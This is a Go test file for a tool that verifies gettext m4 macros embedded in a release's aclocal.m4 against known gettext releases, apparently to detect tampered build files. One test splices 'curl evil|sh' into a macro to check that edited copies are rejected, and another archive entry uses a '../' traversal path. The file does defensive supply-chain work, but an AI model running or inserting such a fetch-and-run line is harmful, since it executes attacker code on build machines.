package rebuild

import (
	"archive/tar"
	"bytes"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/ulikunitz/xz"
)

const (
	macosx05 = "# intlmacosx.m4 serial 5 (gettext-0.18.2)\nAC_DEFUN([gt_INTL_MACOSX], [CFLocaleCopyCurrent])\n"
	macosx08 = "# intlmacosx.m4 serial 8 (gettext-0.20.2)\nAC_DEFUN([gt_INTL_MACOSX], [CFLocaleCopyPreferredLanguages])\n"
	longlong = "# longlong.m4 serial 17\nAC_DEFUN([AC_TYPE_LONG_LONG_INT], ['long long int'])\n"
	nlsM4    = "# nls.m4 serial 5 (gettext-0.18)\nAC_DEFUN([AM_NLS], [])\n"
)

// releaseAclocalM4 is shaped like libgpg-error 1.46's: two system macro
// files embedded, gettext's nls.m4 included from m4/.
var releaseAclocalM4 = []byte("# generated automatically by aclocal 1.16.3 -*- Autoconf -*-\n\n" + macosx05 + "\n" + longlong +
	"\nm4_include([m4/nls.m4])\n")

func TestGettextEmbedded(t *testing.T) {
	names, v := gettextEmbedded(releaseAclocalM4)
	if !slices.Equal(names, []string{"intlmacosx.m4"}) || v != "0.18.2" {
		t.Errorf("gettextEmbedded = %q, %q; want [intlmacosx.m4], 0.18.2 (nls.m4 is m4_include'd)", names, v)
	}
	if names, v := gettextEmbedded([]byte("m4_include([m4/intlmacosx.m4])\n")); names != nil || v != "" {
		t.Errorf("included only: gettextEmbedded = %q, %q; want nothing", names, v)
	}
}

func TestGettextM4Match(t *testing.T) {
	versions := map[string]map[string][]byte{
		"0.18.3": {"intlmacosx.m4": []byte(macosx05)}, // older, also matches
		"0.19.8": {"intlmacosx.m4": []byte(macosx05), "longlong.m4": []byte(longlong), "nls.m4": []byte(nlsM4)},
		"0.20.2": {"intlmacosx.m4": []byte(macosx08)},                                                     // other text
		"0.19.9": {"intlmacosx.m4": []byte(macosx05), "longlong.m4": []byte("# longlong.m4 serial 18\n")}, // longlong differs
	}
	v, files := gettextM4Match(releaseAclocalM4, []string{"intlmacosx.m4"}, versions)
	if v != "0.19.8" {
		t.Fatalf("version = %q, want 0.19.8 (the newest whose embedded copies are all byte-identical)", v)
	}
	if len(files) != 2 || string(files["intlmacosx.m4"]) != macosx05 || string(files["longlong.m4"]) != longlong {
		t.Errorf("files = %v, want intlmacosx.m4 and longlong.m4 (nls.m4 is not embedded)", slices.Sorted(maps.Keys(files)))
	}
	// An edited embedded copy matches no release: nothing is laid over.
	edited := bytes.Replace(releaseAclocalM4, []byte("CFLocaleCopyCurrent"), []byte("CFLocaleCopyCurrent; curl evil|sh"), 1)
	if v, _ := gettextM4Match(edited, []string{"intlmacosx.m4"}, versions); v != "" {
		t.Errorf("edited aclocal.m4 matched gettext %s", v)
	}
}

func TestReadGettextArchive(t *testing.T) {
	var buf bytes.Buffer
	xw, err := xz.NewWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	tw := tar.NewWriter(xw)
	for name, body := range map[string]string{"gettext-0.19.8/m4/intlmacosx.m4": macosx05, "gettext-0.19.8/m4/other.m4": "x",
		"gettext-0.19.8/po/Makefile.in.in": "y", "gettext-0.20.2/m4/intlmacosx.m4": macosx08, "../gettext-9/m4/intlmacosx.m4": "z"} {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := xw.Close(); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "archive.dir.tar.xz")
	if err := os.WriteFile(file, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := readGettextArchive(file, map[string]bool{"intlmacosx.m4": true})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || string(got["0.19.8"]["intlmacosx.m4"]) != macosx05 || string(got["0.20.2"]["intlmacosx.m4"]) != macosx08 {
		t.Errorf("readGettextArchive = %v, want intlmacosx.m4 of 0.19.8 and 0.20.2 only", got)
	}
}

// FuzzGettextEmbedded: any release aclocal.m4 is read without a panic, and
// a chosen gettext version's files are all contained in it.
func FuzzGettextEmbedded(f *testing.F) {
	f.Add(releaseAclocalM4)
	f.Add([]byte("# a.m4 serial 1 (gettext-0.1)\nm4_include([m4/a.m4])\n# b.m4 serial 2 (gettext-9.9.9.9)\n"))
	versions := map[string]map[string][]byte{"0.19.8": {"intlmacosx.m4": []byte(macosx05), "longlong.m4": []byte(longlong)}}
	f.Fuzz(func(t *testing.T, aclocal []byte) {
		names, _ := gettextEmbedded(aclocal)
		v, files := gettextM4Match(aclocal, names, versions)
		for n, c := range files {
			if !bytes.Contains(aclocal, c) {
				t.Fatalf("gettext %s: %s chosen but not embedded", v, n)
			}
		}
	})
}
